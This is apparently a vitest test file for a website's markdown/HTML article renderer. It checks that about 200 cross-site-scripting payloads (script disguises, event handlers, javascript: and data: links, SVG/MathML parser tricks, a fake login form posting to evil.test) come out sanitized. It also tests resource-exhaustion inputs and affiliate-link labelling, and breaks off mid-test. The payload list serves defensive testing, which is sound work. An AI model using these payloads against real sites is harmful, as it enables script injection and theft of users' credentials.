import { readFileSync } from "node:fs";
import type { Element, Nodes } from "hast";
import rehypeParse from "rehype-parse";
import rehypeStringify from "rehype-stringify";
import { unified } from "unified";
import { describe, expect, test } from "vitest";
import { Problem } from "~/facts/problem";
import { maxTimesTheWork, ordinaryText } from "../../../tests/setup/cost/ordinary-text";
import { timesTheWorkOf } from "../../../tests/setup/cost/work";
import { renderArticleBody } from "./article-body.server";
import { sanitizerOptions } from "./elements.server";

const picture = "/images/0123456789abcdef01234567-800x600.webp";
/** The same picture in every size and format that it is shown in. */
const renditions =
  /^\/images\/0123456789abcdef01234567-800x600\/(?:320|480|640|960)\.(?:avif|webp) (?:320|480|640|800)w$/;
const html = (source: string) => renderArticleBody(source).html;

const page = unified().use(rehypeParse).use(rehypeStringify);

/** What is wrong with HTML that was said to be safe: read anew as part of a page, by the rules of docs/article-text.md. */
function faults(published: string): string[] {
  const tree = page.parse(`<!doctype html><title>x</title><main><div>${published}</div></main><footer></footer>`);
  const [main, ...after] = childrenOf(find(tree, "body"));
  const [place, ...beside] = childrenOf(main);
  const stays =
    page.stringify({ type: "root", children: childrenOf(place) as Element[] }) === published &&
    [...beside, ...after].map(nameOf).join() === "footer";
  return [...(stays ? [] : ["it does not stay in its place as it is"]), ...childrenOf(place).flatMap(faultsOf)];
}

function faultsOf(node: Nodes): string[] {
  if (node.type === "text") return [];
  if (node.type !== "element") return [`a ${node.type}`];
  const below = node.children.flatMap(faultsOf);
  const { tagName, properties } = node;
  if (tagName === "div") {
    const frame = { className: ["table-scroll"], tabIndex: 0, role: "group", ariaLabel: "Table" };
    return JSON.stringify(properties) === JSON.stringify(frame) ? below : ["a <div> of its own", ...below];
  }
  const found = Object.entries(properties).flatMap(([name, value]) => {
    if (!attributesOf(tagName).includes(name)) return `<${tagName} ${name}>`;
    if (["href", "cite"].includes(name) && !addressIsSafe(String(value))) return `${name}="${value}"`;
    if (name === "src" && !/^\/images\/[0-9a-f]{24}-\d+x\d+\.webp$/.test(String(value))) return `src="${value}"`;
    if (
      name === "srcSet" &&
      !String(value)
        .split(", ")
        .every((each) => renditions.test(each))
    )
      return `srcset="${value}"`;
    return [];
  });
  const known = [...sanitizerOptions.tagNames, "picture", "source"].includes(tagName);
  return [...(known ? [] : [`<${tagName}>`]), ...found, ...below];
}

const childrenOf = (node: Nodes | undefined): Nodes[] => (node && "children" in node ? node.children : []);
const nameOf = (node: Nodes) => (node.type === "element" ? node.tagName : node.type);
function find(tree: Nodes, name: string): Nodes | undefined {
  return nameOf(tree) === name
    ? tree
    : childrenOf(tree).reduce<Nodes | undefined>((hit, node) => hit ?? find(node, name), undefined);
}

const added: Record<string, string[]> = {
  small: ["className"],
  img: ["srcSet", "sizes", "loading", "decoding"],
  source: ["type", "srcSet", "sizes"],
};
const attributesOf = (tagName: string) => [
  ...((sanitizerOptions.attributes as Record<string, string[]>)[tagName] ?? []),
  ...(added[tagName] ?? []),
];
/** An address that a browser cannot read leads nowhere. */
const addressIsSafe = (address: string, from = "https://here.test/content/a") =>
  !URL.canParse(address, from) || ["http:", "https:", "mailto:", "tel:"].includes(new URL(address, from).protocol);

/** The picture as readers get it. */
function shown(attributes: string): string {
  const sizes = 'sizes="(min-width: 48rem) 44.7rem, calc(100vw - 2.7rem)"';
  const [avif, webp] = ["avif", "webp"].map((format) =>
    ["320 320", "480 480", "640 640", "960 800"]
      .map((widths) => `/images/0123456789abcdef01234567-800x600/${widths.replace(" ", `.${format} `)}w`)
      .join(", "),
  );
  const source = `<source type="image/avif" srcset="${avif}" ${sizes}>`;
  return `<picture>${source}<img ${attributes} srcset="${webp}" ${sizes} loading="lazy" decoding="async"></picture>`;
}

/** Each text as it is, and where it could mean something else. */
const surroundings = [
  (text: string) => text,
  (text: string) => `<p>${text}</p>`,
  (text: string) => `Some *words* ${text} and more`,
  (text: string) => `- a list\n- ${text}\n\n> ${text}`,
  (text: string) => `<table><tr><td>${text}</td><td>more</td></tr></table>`,
];

describe("hostile text", () => {
  test.each([
    // Script in every disguise.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script/x>",
    "<script src=//evil.test></script>",
    "<script src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script><!--<script></script>alert(1)//--></script>",
    "<script>`<script>`</script><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<\u0000script>alert(1)</script>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
    // Event handlers.
    `<img src="${picture}" onerror="alert(1)" onload=alert(1)>`,
    "<img src=x onerror=alert(1)//",
    "<img src=x:x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    "<p onclick=alert(1) onpointerrawupdate=alert(1)>x</p>",
    "<body onload=alert(1)>",
    "<a href=x onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=1>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video onloadstart=alert(1)><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p onclick\u000b=alert(1)>x</p>",
    '<p title="><img src=x onerror=alert(1)>">x</p>',
    "<b ONCLICK=alert(1) OnCopy=alert(1)>x</b>",
    // Addresses that are code.
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='\u0001javascript:alert(1)'>x</a>",
    "<a href='&#1;&#2;javascript:alert(1)'>x</a>",
    "<a href='\u00A0javascript:alert(1)'>x</a>",
    "<a href='\uFEFFjavascript:alert(1)'>x</a>",
    "<a href='javascript\u0000:alert(1)'>x</a>",
    "<a href='javascript&#x3A;//example.com/%0Aalert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://here.test/1'>x</a> <a href='file:///etc/passwd'>x</a> <a href='view-source:x'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a> <a href='jar:javascript:alert(1)!/'>x</a>",
    "<a href='x' href='javascript:alert(1)'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<q cite='javascript:alert(1)'>x</q><blockquote cite='data:text/html,x'>x</blockquote>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<img src='javascript:alert(1)'><img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img dynsrc='javascript:alert(1)' lowsrc='javascript:alert(1)'>",
    "<table background='javascript:alert(1)'><tr><td background='javascript:alert(1)'>x</td></tr></table>",
    "<area href='javascript:alert(1)'><map name=x><area href='javascript:alert(1)'></map>",
    // SVG, MathML and text that changes its meaning when it is read a second time.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><desc><table><a><b><img src=x onerror=alert(1)></desc></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi><table><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<p><svg><p title='</svg><img src=x onerror=alert(1)>'>",
    // Elements whose content is read as text.
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template><template></template><script>alert(1)</script>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><a title='</title><script>alert(1)</script>'></title>",
    "<style><a title='</style><img src=x onerror=alert(1)>'></style>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><img title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<plaintext><script>alert(1)</script>",
    "<iframe><img title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<option><style></option></select><img src=x onerror=alert(1)></style>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    // Forms, frames and what changes the page around the text.
    "<form action=https://evil.test><input name=password type=password autofocus><button>Sign in</button></form>",
    "<form><div></form><form id=x><input form=x></form>",
    "<button form=x formaction=https://evil.test>x</button><input type=image src=x formaction=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)><applet code=x></applet>",
    "<object><param name=movie value=javascript:alert(1)>x</object>",
    "<base href=https://evil.test/><a href=x>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.test/x.css><link rel=import href=x>",
    "<html manifest=x><head><base href=//evil.test></head><body background=x onload=alert(1)><p>x",
    "</div></article></main></body></html><h1>Another page</h1>",
    "</p></td></tr></table></ul></li>x",
    "<dialog open style=position:fixed>x</dialog><div popover id=p>x</div>",
    "<portal src=x></portal><fencedframe></fencedframe><x-element is=x>x</x-element>",
    // Names that stand in for the page's own.
    "<a id=location name=location href=/x>x</a><img name=cookie id=body src=x>",
    "<form id=document><input name=cookie></form><p id=__remixContext>x</p>",
    "<p id=related class=sr-only data-action=x aria-hidden=true role=alert contenteditable slot=x is=x>x</p>",
    // Looks.
    "<p style='background:url(javascript:alert(1));position:fixed;inset:0'>x</p>",
    "<p style=x:expression(alert(1))>x</p>",
    "<style>@import 'https://evil.test/x.css';body{display:none}</style>",
    "<link rel=stylesheet href=data:,*{display:none}>",
    "<font color=red face=x size=7><span class=admin>x</span></font>",
    // Pictures from elsewhere.
    "<img src=https://evil.test/pixel.gif>",
    "<img src=//evil.test/pixel.gif>",
    "<img src=/\\evil.test/pixel.gif>",
    `<img src="${picture}" srcset="https://evil.test/pixel.gif 2x" sizes=1px>`,
    `<picture><source srcset=https://evil.test/pixel.gif><img src="${picture}"></picture>`,
    "<table><tr><td><img src=https://evil.test/pixel.gif></td></tr></table>",
    "<img src=/images/../api/logout><img src=/images/x><img src='/images/ onerror=alert(1)'>",
    `<img src="${picture}?x"><img src="${picture}#x"><img src=" ${picture}">`,
    "<input type=image src=https://evil.test/pixel.gif><video poster=https://evil.test/pixel.gif></video>",
    "<audio src=https://evil.test/x autoplay controls></audio><track src=x><bgsound src=x>",
    // Unclosed and crossed.
    "<p><b><i>x</b></i></p>",
    "<a href=/1>one<a href=/2>two<table><tr><td><a href=/3>three",
    "<p>x<p>y<table><p>z<tr><td>q",
    "<p><button><p>x</button></p>",
    "<p><marquee><a href=/1>x<marquee><a href=/2>y",
    "<h2>x<h3>y</h2>z</h3>",
    "<table><tr><td></table><b>x",
    "<ul><li><ul></li></ul><li>x",
    "<img src='x",
    '<a href="x',
    "<a href=\"javascript:alert(1)//'>x</a>",
    "<p",
    "<",
    "</",
    "<a<b<c>",
    // Comments, CDATA, processing instructions.
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
    "<?xml version='1.0'?><?php echo 1 ?><script>alert(1)</script>",
    "<!doctype html [<!entity x '<script>alert(1)</script>'>]>&x;",
    "<% alert(1) %>{{constructor.constructor('alert(1)')()}}",
    // Characters.
    "a\u0000b<im\u0000g src=x onerror=alert(1)>",
    "&#0;&#x80;&#xD800;&#x110000;&#99999999999999999999;&#xFFFFFFFFFFFFFFFF;&#",
    `&#${"0".repeat(1000)}60;script&#62;`,
    "\u202Ejavascript:alert(1)\u202C \u2028<script>alert(1)</script>\u2029",
    "\uD83C<script>alert(1)</script>\uDF3F",
    "\u001B[31m\u0007\u0008\u007F\u0085",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    // Markdown.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1) 'title')",
    "[x](<javascript:alert(1)>)",
    "[x](java&#10;script:alert(1))",
    "[x](java\\script:alert(1)) [x](javascript\\:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x]: javascript:alert(1)\n\n[x] [y][x] ![z][x]",
    "<javascript:alert(1)> <data:text/html,x> <vbscript:x>",
    "![x](javascript:alert(1)) ![x](https://evil.test/pixel.gif) ![x](//evil.test/x)",
    '![x" onerror="alert(1)](https://evil.test/x) ![" onload="alert(1)](/images/x)',
    '[x](https://a.test "title" onclick="alert(1)")',
    '[x](https://a.test/"onclick="alert(1))',
    "[x](https://a.test '\"><img src=x onerror=alert(1)>')",
    "[<img src=x onerror=alert(1)>](javascript:alert(1))",
    "`<script>alert(1)</script>` ``` <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    '``` x" onmouseover="alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "http://a.test/<script>alert(1)</script> www.a.test/?\"onclick='alert(1)'",
    "a@b.test\"onclick='alert(1)' javascript:alert(1)@b.test",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '[^1]\n\n[^1]: <script>alert(1)</script> [^"onclick="alert(1)]',
    "- [ ] <script>alert(1)</script>\n- [x] <svg onload=alert(1)>",
    "# <script>alert(1)</script> {onclick=alert(1)}",
    // Markdown in HTML and HTML in markdown.
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "<p>[x](javascript:alert(1)) ![x](https://evil.test/x)</p>",
    "text\n\n<div onclick=alert(1)>\n\n**x** <script>\n\nalert(1)\n\n</script></div>",
    "*<img src=x onerror=alert(1)>* **<a href=javascript:alert(1)>x</a>**",
    "<a href='\n\njavascript:alert(1)'>x</a>",
    "<a title='`'>`</a>` <a title='` onclick=alert(1)'>",
    "text <!-- \n\n<script>alert(1)</script>\n\n-->",
    "<style>\n\n</style><img src=x onerror=alert(1)>",
  ])("%j comes through safe", (hostile) => {
    for (const place of surroundings) {
      const once = html(place(hostile));
      expect(faults(once), `${place(hostile)}\nbecame ${once}`).toEqual([]);
      expect(html(once)).toBe(once);
    }
  });

  test("code that is dropped leaves none of its text behind", () => {
    for (const name of sanitizerOptions.strip) expect(html(`<p>a<${name}>alert(1)</${name}>b</p>`)).toBe("<p>ab</p>");
  });

  test("the words of what is taken away stay", () => {
    expect(html('<p><a href="javascript:x">one</a> <font>two</font> <blink>three</blink></p>')).toBe(
      "<p>one two three</p>",
    );
  });
});

describe("odd but honest text", () => {
  test.each([
    ["without any markup", "Put the kettle on.", "<p>Put the kettle on.</p>"],
    ["that is empty", "", ""],
    ["of white space", " \n\t\n ", ""],
    ["with a first-level heading in markdown", "# One\n\n## Two", "<h2>One</h2>\n<h2>Two</h2>"],
    ["with headings of every level", "<h1>1</h1><h5>5</h5><h6>6</h6>", "<h2>1</h2><h4>5</h4><h4>6</h4>"],
    ["with Windows line ends", "One\r\ntwo.\r\n\r\nThree.", "<p>One\ntwo.</p>\n<p>Three.</p>"],
    ["with line breaks", "One  \ntwo\\\nthree", "<p>One<br>\ntwo<br>\nthree</p>"],
    ["with emoji and accents", "Crème brûlée 🍮 👩‍🌾", "<p>Crème brûlée 🍮 👩‍🌾</p>"],
    ["with entities", "Salt &amp; pepper, &pound;5 &lt; &#8364;6", "<p>Salt &#x26; pepper, £5 &#x3C; €6</p>"],
    ["with signs that are none", "3 < 4 & 5 > 2, a_b_c, 2*3*4", "<p>3 &#x3C; 4 &#x26; 5 > 2, a_b_c, 2<em>3</em>4</p>"],
    [
      "that opens with words in HTML",
      "<em>Note:</em> **bring** tea",
      "<p><em>Note:</em> <strong>bring</strong> tea</p>",
    ],
    ["with a comment before its HTML", "<!-- draft -->\n\n<p>Tea</p>", "<p>Tea</p>"],
    ["with many comments before its words", `${"<!-- a -->".repeat(200)}Tea`, "<p>Tea</p>"],
    ["with white space before its HTML", "\uFEFF \n  <p>Tea</p>  \n", "<p>Tea</p>"],
    [
      "that is a whole page",
      "<!doctype html><html><head><title>x</title></head><body><p>Tea</p></body></html>",
      "<p>Tea</p>",
    ],
    ["of indented HTML", "  <div>\n    <p>Tea</p>\n      <p>Cake</p>\n  </div>", "<p>Tea</p>\n      <p>Cake</p>"],
    ["of divisions", "<div>Tea</div><div><span>Cake</span></div>", "<p>Tea</p><p>Cake</p>"],
    ["with words beside its blocks", "<div>Tea<p>Cake</p>Jam</div>", "<p>Tea</p><p>Cake</p><p>Jam</p>"],
    ["with a division in a heading", "<h2><div>Tea</div></h2>", "<h2>Tea </h2>"],
    [
      "pasted from a word processor",
      '<meta charset="utf-8"><b style="font-weight:normal" id="docs-internal-guid-1"><p dir="ltr"><span>Tea</span></p><br></b>',
      "<p>Tea</p>",
    ],
    ["with empty paragraphs", "<p>Tea</p><p>&nbsp;</p><p><br></p><p></p><h2></h2>", "<p>Tea</p>"],
    ["with list items outside a list", "<li>Tea</li><li>Cake</li>", "<p>Tea</p><p>Cake</p>"],
    ["with unclosed paragraphs", "<p>Tea<p>Cake", "<p>Tea</p><p>Cake</p>"],
    [
      "with a footnote",
      "Tea[^1]\n\n[^1]: Or coffee.",
      "<p>Tea<sup>1</sup></p>\n<h2>Footnotes</h2>\n<ol>\n<li>\n<p>Or coffee. </p>\n</li>\n</ol>",
    ],
    ["with a task list", "- [ ] tea", "<ul>\n<li> tea</li>\n</ul>"],
    ["with a description list", "<dl><div><dt>Tea</dt><dd>Hot</dd></div></dl>", "<dl><dt>Tea</dt><dd>Hot</dd></dl>"],
    ["with code", "`<b>`\n\n```\n<b>\n```", "<p><code>&#x3C;b></code></p>\n<pre><code>&#x3C;b>\n</code></pre>"],
    ["with markdown inside HTML", "<p>**Tea**</p>", "<p>**Tea**</p>"],
    ["with a link inside the page", "[Below](#below)", "<p>Below</p>"],
    [
      "with a link to another page",
      "[Shop](/shop) [up](../x)",
      '<p><a href="/shop">Shop</a> <a href="../x">up</a></p>',
    ],
    [
      "with links by mail and telephone",
      "<p><a href=mailto:a@b.test>m</a> <a href=tel:+441>t</a></p>",
      '<p><a href="mailto:a@b.test">m</a> <a href="tel:+441">t</a></p>',
    ],
    [
      "with a link elsewhere",
      "[x](https://a.test/?b&c 'Why')",
      '<p><a href="https://a.test/?b&#x26;c" title="Why" rel="noopener">x</a></p>',
    ],
    [
      "with an address typed by a telephone",
      "<p><a href=' Https://a.test '>x</a></p>",
      '<p><a href="https://a.test" rel="noopener">x</a></p>',
    ],
    ["with a bare address", "See www.a.test.", '<p>See <a href="http://www.a.test" rel="noopener">www.a.test</a>.</p>'],
    ["with a picture", `![Tea](${picture})`, `<p>${shown(`alt="Tea" src="${picture}" width="800" height="600"`)}</p>`],
    [
      "with a figure whose picture is from elsewhere",
      "<figure><img src=https://a.test/b.png alt=Tea><figcaption>Tea</figcaption></figure>",
      "<figure><figcaption>Tea</figcaption></figure>",
    ],
  ])("%s", (_what, source, expected) => {
    const once = html(source);
    expect(once).toBe(expected);
    expect(faults(once)).toEqual([]);
    expect(html(once)).toBe(once);
  });

  test("a table is put in a frame that scrolls, once", () => {
    const once = html("| Tea | Cake |\n|---|---|\n| hot | sweet |");
    expect(once).toMatch(/^<div class="table-scroll" tabindex="0" role="group" aria-label="Table"><table>/);
    expect(html(once)).toBe(once);
  });

  test("lists are kept twenty levels deep", () => {
    const source = Array.from({ length: 20 }, (_, level) => `${"  ".repeat(level)}- level ${level}`).join("\n");
    const once = html(source);
    expect(once.match(/<ul>/g)).toHaveLength(20);
    expect(html(once)).toBe(once);
  });

  test("words of any length stay whole", () => {
    const word = "Llanfair".repeat(10_000);
    expect(html(word)).toBe(`<p>${word}</p>`);
  });

  test("a text of the greatest length comes through whole", () => {
    const walk = "It was not far, and nobody was in a hurry. ".repeat(8);
    const inMarkdown = `${walk}Twenty *unhurried* minutes, a **good** coat and [a map](https://maps.test/walks).\n\n`;
    const inHtml =
      "<p>Twenty <em>unhurried</em> minutes and <a href='https://maps.test/walks'>a map</a>: that is all.</p>\n";
    for (const paragraph of [inMarkdown, inHtml]) {
      const paragraphs = Math.floor(200_000 / paragraph.length);
      const once = html(paragraph.repeat(paragraphs));
      for (const element of [/<p>/g, /<em>/g, /<a /g]) expect(once.match(element)).toHaveLength(paragraphs);
    }
  });

  test("the words alone are what a reader reads", () => {
    const { text } = renderArticleBody("# Tea\n\nHot & *strong*.<script>alert(1)</script>\n\n- one\n- two");
    expect(text.split(/\s+/)).toEqual(["Tea", "Hot", "&", "strong.", "one", "two"]);
  });
});

describe("text that could cost too much", { timeout: 60_000 }, () => {
  const size = 200_000;
  const timesTheWork = timesTheWorkOf(() => html(ordinaryText));
  const fill = (unit: string, length = size) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
  const numbered = (count: number, line: (index: number) => string) =>
    Array.from({ length: count }, (_, i) => line(i)).join("");

  test.each<[what: string, source: () => string]>([
    ["100,000 opening brackets", () => "[".repeat(100_000)],
    ["100,000 closing brackets", () => "]".repeat(100_000)],
    ["100,000 asterisks", () => "*".repeat(100_000)],
    ["100,000 asterisks and letters", () => "*a".repeat(100_000)],
    ["mixed emphasis", () => fill("*a_ ")],
    ["strikethrough that never ends", () => fill("~~a ")],
    ["100,000 quotes in one line", () => ">".repeat(100_000)],
    ["100,000 quotes with spaces", () => "> ".repeat(100_000)],
    ["quotes within lists", () => fill("> - ")],
    ["numbered lists in one line", () => fill("1. ")],
    ["lists nested by indentation", () => numbered(600, (level) => `${" ".repeat(level)}- a\n`)],
    ["many short lists", () => fill("* a\n  * b\n")],
    ["lists nested 50,000 deep", () => "<ul><li>".repeat(50_000)],
    ["divisions nested 50,000 deep", () => `${"<div>".repeat(50_000)}x${"</div>".repeat(50_000)}`],
    ["5,000 divisions, which is few enough to try", () => "<div>".repeat(5000)],
    ["200,000 backticks", () => "`".repeat(200_000)],
    ["runs of backticks that have no partner", () => numbered(630, (length) => `${"`".repeat(length)} `)],
    ["a table with 10,000 columns", () => `${"|a".repeat(10_000)}\n${"|-".repeat(10_000)}\n${"|b".repeat(10_000)}`],
    ["a wide table with short rows", () => `${"|a".repeat(900)}\n${"|-".repeat(900)}\n${"|\n".repeat(900)}`],
    ["a table of HTML with 10,000 columns", () => `<table><tr>${"<td>a".repeat(10_000)}`],
    ["tables in tables", () => fill("<table><tr><td>")],
    ["many small tables", () => fill("|a|b|\n|-|-|\n|c|d|\n\n")],
    ["unclosed links", () => fill("[a](")],
    ["unclosed links with angles", () => fill("[a](<b")],
    ["links in an unclosed picture", () => `![${fill("[a](b)")}`],
    ["unclosed links of HTML", () => `<p>${fill("<a href=x>")}`],
    ["unclosed attributes", () => fill("<a href='x")],
    ["elements that are opened again in each block", () => numbered(6000, (i) => `<b x=${i}>`) + "<p>x".repeat(9000)],
    [
      "the same, closed in an attribute only",
      () => `<p>${numbered(4000, (i) => `<b x=${i}><i title="</b>">`)}${"<p>x".repeat(9000)}`,
    ],
    [
      "the same, closed at the end",
      () => numbered(3000, (i) => `<b x=${i}>`) + "<p>x".repeat(9000) + "</b>".repeat(3000),
    ],
    ["the same, just few enough to try", () => `<p>${numbered(5, (i) => `<b x=${i}>`)}${"<p>x".repeat(9900)}`],
    ["crossed elements", () => `<p>${fill("<b><p></b>")}`],
    ["one long address that is referred to often", () => `[a]: /${"x".repeat(100_000)}\n\n${"[a]".repeat(20_000)}`],
    ["a title that is referred to often", () => `[a]: /x "${"x".repeat(100_000)}"\n\n${"[a]".repeat(1600)}`],
    ["definitions", () => numbered(14_000, (i) => `[a${i}]: b\n`)],
    ["footnotes", () => numbered(10_000, (i) => `[^a${i}]: b[^a${i}]\n\n`)],
    ["references to one footnote", () => `[^a]: b\n\n${fill("[^a]")}`],
    ["addresses", () => fill("www.a.b ")],
    ["mail addresses", () => fill("a@b.")],
    ["headings", () => fill("# a\n")],
    ["underlined headings", () => fill("a\n=\n")],
    ["line ends", () => "\n".repeat(size)],
    ["line ends of another kind", () => "\r".repeat(size)],
    ["white space", () => `a${" ".repeat(size)}b\t${"\t".repeat(size)}`],
    ["backslashes", () => "\\".repeat(size)],
    ["entities", () => fill("&amp;")],
    ["angles", () => "<".repeat(size)],
    ["unclosed comments", () => fill("<!--")],
    ["comments before words", () => `${fill("<!-- a -->")}x`],
    ["tags before words", () => `${fill("<br>")}x`],
    ["a tag with 20,000 attributes", () => `<p ${numbered(20_000, (i) => `a${i}=1 `)}>x</p>`],
    ["a tag of white space", () => `<b${" ".repeat(size)}`],
  ])("%s end soon, in a text or in a message", async (_what, source) => {
    await expectLittleWork(source());
  });

  test.each([
    ...[
      "* a\n  * b\n",
      "- a\n\n  - b\n\n",
      "1. a\n\n",
      "> a\n\n",
      "# a\n",
      "a\n=\n",
      "a\\\n",
      "|a|b|\n|-|-|\n|c|d|\n\n",
    ],
    ...[
      "*a ",
      "*a_ ",
      "a**b",
      "***a** ",
      "~a~~ ",
      "`a ",
      "[a](b)",
      "[a](b)http://",
      '[a](//b.c "affiliate link") ',
      "www.a.b ",
      "a@b.",
      "[^a]",
      "&amp;",
    ],
    ...["<p>a", "<p><a href=x>b</a> ", "<ul><li>a</ul>", "<div>a</div>", "<b>a</b>\n\n", "a <b>x</b> *c* <i>\n\n"],
  ])("%j ends soon when there are as many as are let through", async (unit) => {
    let text = fill(unit);
    while ((await expectLittleWork(text)) instanceof Problem) text = fill(unit, Math.floor(text.length * 0.8));
  });

  test("a message says what to simplify", () => {
    expect(outcomeOf("> ".repeat(500))).toMatchObject({ errors: { content: [expect.stringContaining("nested")] } });
    expect(outcomeOf("[".repeat(9000))).toMatchObject({ errors: { content: [expect.stringContaining("marks")] } });
    expect(outcomeOf("<p><b>x</p>".repeat(900))).toMatchObject({
      errors: { content: [expect.stringContaining("closed")] },
    });
  });

  /** The text is laid out well or refused in plain words, and either takes no more work than its size explains. */
  async function expectLittleWork(text: string): Promise<string | Problem> {
    const outcomes: (string | Problem)[] = [];
    const times = await timesTheWork(() => outcomes.push(outcomeOf(text)), maxTimesTheWork);
    expect(times).toBeLessThan(maxTimesTheWork);
    const [outcome = ""] = outcomes;
    if (outcome instanceof Problem) {
      expect(outcome.kind).toBe("invalid");
      expect(outcome.errors?.content).toEqual([expect.stringMatching(/^Simplify the text: /)]);
    } else {
      expect(outcome.length).toBeLessThan(2_000_000);
      expect(faults(outcome)).toEqual([]);
    }
    return outcome;
  }

  function outcomeOf(text: string): string | Problem {
    try {
      return html(text);
    } catch (error) {
      if (error instanceof Problem) return error;
      throw error;
    }
  }
});

describe("affiliate links", () => {
  const label = '<small class="affiliate-label">(Affiliate link)</small>\u00a0';
  const link = (href: string) => `<a href="${href}" rel="sponsored nofollow noopener">pot</a>`;
  const vendor = "https://shop.test/pot";

  test.each([
    ["marked in HTML", `<p>The <a href="${vendor}" rel="nofollow Sponsored external">pot</a>.</p>`],
    ["marked in markdown", `The [pot](${vendor} "affiliate link").`],
    ["marked in HTML within markdown", `The <a href="${vendor}" rel=sponsored>pot</a>.`],
  ])("one that is %s is labelled, and paid for in the eyes of search engines", (_how, source) => {
    expect(html(source)).toBe(`<p>The ${label}${link(vendor)}.</p>`);
    expect(renderArticleBody(source).links).toEqual([{ address: vendor, sponsored: true }]);
  });

  test("one through the site's own redirect is recognised by its address", () => {
    const redirect = "/go/0123456789abcdef01234567";
    expect(html(`The [pot](${redirect}).`)).toBe(`<p>The ${label}${link(redirect)}.</p>`);
  });

  test("links to addresses that earn a commission are led where they are to go", () => {
    const source = `The [pot](${vendor}), [again](${vendor}), and [a map](https://maps.test/).`;
    expect(renderArticleBody(source).links.map(({ sponsored }) => sponsored)).toEqual([false, false, false]);
    const { html: led } = renderArticleBody(source, new Map([[vendor, "/go/0123456789abcdef01234567"]]));
    expect(led.match(/<small class="affiliate-label">\(Affiliate link\)<\/small>\u00a0<a href="\/go\//g)).toHaveLength(
      2,
    );
    expect(led).toContain('<a href="https://maps.test/" rel="noopener">a map</a>');
    expect(faults(led)).toEqual([]);
    expect(html(led)).toBe(led);
  });

  test.each([
    ["alone in its paragraph", `[pot](${vendor} "affiliate link")`],
